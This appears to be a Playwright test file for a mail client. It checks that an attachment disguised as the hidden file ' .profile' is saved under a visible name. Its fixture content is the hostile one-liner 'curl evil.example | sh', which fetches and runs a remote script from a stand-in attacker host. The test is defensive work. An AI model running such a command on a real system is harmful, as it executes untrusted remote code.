// A sender names an attachment " .profile" (a hidden file behind a space) or with a bidi override
// that disguises its extension: whichever way the page saves it, the file lands under a plain,
// visible name.
import { writeFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { cliUser, ok, tempRoot } from '../cli/run-cli';
import { downloadingRecipient, uniqueName } from './support';

test('an attachment named to hide itself is saved under a visible name', async ({
	browser,
	baseURL
}) => {
	test.setTimeout(120_000);
	const { context, page, address: bob } = await downloadingRecipient(browser, 'Bob');
	const root = await tempRoot();
	try {
		const alice = cliUser(baseURL!, root, `${uniqueName('alice')}@localhost`);
		ok(await alice.run(['init', '--address', alice.address, '--name', 'Alice']));
		const hidden = join(root, ' .profile');
		writeFileSync(hidden, 'curl evil.example | sh\n');
		const subject = `Settings ${uniqueName('s')}`;
		ok(
			await alice.run([
				'send',
				'--to',
				bob,
				'--subject',
				subject,
				'--body',
				'x',
				'--attach',
				hidden
			])
		);

		await page.locator('li[data-message-id]', { hasText: subject }).getByRole('link').click();
		const attachment = page.locator('[data-attachment]', { hasText: 'profile' });
		const downloading = page.waitForEvent('download', { timeout: 60_000 });
		await attachment.getByRole('button', { name: 'Save' }).click();
		const download = await downloading;
		expect(download.suggestedFilename()).toBe('profile');
	} finally {
		rmSync(root, { recursive: true, force: true });
		await context.close();
	}
});
